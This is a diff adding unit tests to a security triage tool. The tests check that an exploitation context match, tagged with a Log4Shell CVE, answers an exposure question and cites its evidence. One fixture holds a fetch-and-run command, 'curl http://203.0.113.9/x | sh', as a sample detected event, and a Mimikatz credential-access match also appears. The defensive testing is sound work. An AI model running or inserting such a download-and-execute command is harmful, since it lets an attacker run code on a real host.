@@ -3,7 +3,7 @@ import { test } from 'node:test';
 import { parse } from 'yaml';
 import { an0745Finding, containerEvidence, DIGEST } from '../../test/support/an0745-finding.js';
 import { approvalOf } from '../model/container-policy.js';
-import type { Evidence, Finding } from '../model/finding.js';
+import type { ContextMatch, Evidence, Finding } from '../model/finding.js';
 import { defaultPolicy } from '../model/policy.js';
 import { parsePolicy } from '../run/policy.js';
 import { psQuote, shellQuote } from './containment.js';
@@ -420,4 +420,53 @@ test('AN0745 allowlist suggestion is a containers: section coalmine.yaml accepts
   );
   const h = load(hostile);
   assert.deepEqual(h.containers.namespaces, []);
+});
+
+function contextMatch(extra: Partial<ContextMatch> = {}): ContextMatch {
+  return {
+    time: '2026-11-30T08:00:00.000Z',
+    host: 'web-01',
+    rule_id: 'ctx-1',
+    title: 'Java process spawning a shell',
+    level: 'high',
+    tags: ['attack.initial-access', 'attack.t1190', 'cve.2021-44228'],
+    source: 'events.ndjson:3',
+    facts: { process: '/bin/sh', command_line: 'sh -c curl http://203.0.113.9/x | sh', parent: '/usr/bin/java' },
+    mining: false,
+    relative: '2 h before the first evidence',
+    reasons: ['exploitation'],
+    ...extra,
+  };
+}
+
+test('question 4 is answered from an exploitation context match, naming the CVE and citing the match; without one it is not', () => {
+  const plain = triageFinding(finding(), defaultPolicy());
+  const q4 = (t: typeof plain) => t.questions.find((q) => q.id === 'vulnerable-exposure');
+  assert.equal(q4(plain)?.status, 'needs-analyst');
+  // a credential-access match alone does not answer how it got in
+  const creds = contextMatch({ tags: ['attack.t1003.001'], reasons: ['credential-access'], title: 'Mimikatz' });
+  assert.equal(q4(triageFinding(finding({ context: [creds] }), defaultPolicy()))?.status, 'needs-analyst');
+  const t = triageFinding(finding({ context: [creds, contextMatch()] }), defaultPolicy());
+  assert.equal(q4(t)?.status, 'answered');
+  assert.match(q4(t)?.answer ?? '', /2 h before the first evidence: Java process spawning a shell .*CVE-2021-44228/);
+  assert.deepEqual(q4(t)?.evidence, ['events.ndjson:3']);
+  // also when the tree descends from a network service: the detection says more than the process name
+  const service = finding({
+    context: [contextMatch()],
+    processes: [{ entity: 'process:web-01:1', pid: 1, executable: '/usr/bin/java', name: 'java' }],
+  });
+  assert.match(q4(triageFinding(service, defaultPolicy()))?.answer ?? '', /CVE-2021-44228/);
+  // scope steps from credential access, never a change of tier or reasons
+  assert.equal(t.escalation.tier, plain.escalation.tier);
+  assert.deepEqual(t.escalation.reasons, plain.escalation.reasons);
+  assert.ok(t.escalation.next_steps.some((s) => /^Credential access on web-01: Mimikatz/.test(s)));
+});
+
+test('AN0745: an exploitation context match answers the exposure question beside the workload facts', () => {
+  const f = an0745Finding();
+  f.context = [contextMatch({ host: String(f.host) })];
+  const q = triageFinding(f, defaultPolicy()).questions.find((x) => x.id === 'vulnerable-exposure');
+  assert.equal(q?.status, 'answered');
+  assert.match(q?.answer ?? '', /CVE-2021-44228/);
+  assert.ok(q?.evidence.includes('events.ndjson:3'));
 });
